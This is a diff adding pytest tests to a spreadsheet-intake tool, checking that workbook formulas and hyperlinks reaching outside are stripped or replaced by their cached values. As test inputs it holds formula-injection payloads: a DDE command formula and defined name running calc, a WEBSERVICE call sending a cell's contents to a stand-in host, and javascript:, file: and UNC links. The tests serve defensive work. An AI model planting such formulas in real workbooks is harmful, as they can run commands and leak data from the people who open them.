@@ -8,6 +8,7 @@ import re
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 import openpyxl
 import pytest
@@ -15,6 +16,7 @@ from broken_workbooks import CASES, cell_of
 from forms import Form, Formula, good_form
 from handed_in import NOW, Office, form_bytes, with_macros, zipped
 from openpyxl.comments import Comment
+from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 
 from papibook.cli.app import main
@@ -29,7 +31,7 @@ from papibook.data.recognise import NOTHING_SAID
 from papibook.data.reference import read_reference
 from papibook.data.return_text import place_words
 from papibook.data.returns import return_place, write_returns
-from papibook.data.workbook import read_workbook
+from papibook.data.workbook import a1, read_workbook
 from papibook.model.finding_codes import CODES
 from papibook.model.findings import ERROR
 from papibook.model.layout import FIGURES_SHEET, IDENTITY_SHEET, TASKS_SHEET
@@ -221,6 +223,62 @@ def test_macros_are_never_carried_over(desk: Desk, tmp_path: Path) -> None:
     with zipfile.ZipFile(desk.path(answer, "xlsx")) as archive:
         assert not [name for name in archive.namelist() if "vba" in name.casefold()]
         assert b"macroEnabled" not in archive.read("[Content_Types].xml")
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=[1]Sheet1!A1",
+        "=cmd|'/C calc'!A0",
+        '=WEBSERVICE("http://e.example/"&A1)',
+        '=HYPERLINK("file:///c:/x")',
+    ],
+)
+def test_what_reaches_outside_comes_back_as_the_value_that_was_read(
+    desk: Desk, tmp_path: Path, formula: str
+) -> None:
+    form, _ = _broken()
+    form.figure("I507", note="giữ chỗ")
+    row, column = form.place(FIGURES_SHEET, "I507", "note")
+    at = a1(row, column)
+    content = _with_formula(form_bytes(form, tmp_path), formula, "giữ chỗ")
+    sheet = desk.book(desk.take(content))[FIGURES_SHEET]
+    assert (sheet[at].value, sheet[at].data_type) == ("giữ chỗ", "s")
+
+
+def _with_formula(content: bytes, formula: str, value: str) -> bytes:
+    """The workbook with the cell that holds the text ``value`` made a formula with that result."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
+        strings = re.findall(r"<si><t[^>]*>(.*?)</t></si>", source.read("xl/sharedStrings.xml").decode())
+        cell = f't="s"><v>{strings.index(value)}</v>'.encode()
+        formula_cell = f't="str"><f>{escape(formula[1:])}</f><v>{value}</v>'.encode()
+        for name in source.namelist():
+            target.writestr(name, source.read(name).replace(cell, formula_cell))
+    return out.getvalue()
+
+
+def test_links_that_start_something_are_taken_out(desk: Desk, tmp_path: Path) -> None:
+    form, _ = _broken()
+    book = openpyxl.load_workbook(io.BytesIO(form_bytes(form, tmp_path)))
+    sheet = book[FIGURES_SHEET]
+    targets = [
+        "javascript:alert(1)",
+        "file:///c:/x.exe",
+        "\\\\host\\x",
+        "https://mocchau.example/",
+        "mailto:a@b.vn",
+    ]
+    for row, target in enumerate(targets, start=20):
+        sheet.cell(row, 20, "bấm").hyperlink = target
+    book.defined_names["x"] = DefinedName("x", attr_text="cmd|'/C calc'!A0")
+    answer = desk.take(_saved(book))
+    back = desk.book(answer)
+    kept = [back[FIGURES_SHEET].cell(row, 20).hyperlink for row in range(20, 25)]
+    assert [link and link.target for link in kept] == [None, None, None, *targets[3:]]
+    assert "x" not in back.defined_names
+    with zipfile.ZipFile(desk.path(answer, "xlsx")) as archive:
+        assert not [name for name in archive.namelist() if "externalLink" in name]
 
 
 def test_same_report_gives_the_same_bytes(desk: Desk, tmp_path: Path) -> None:
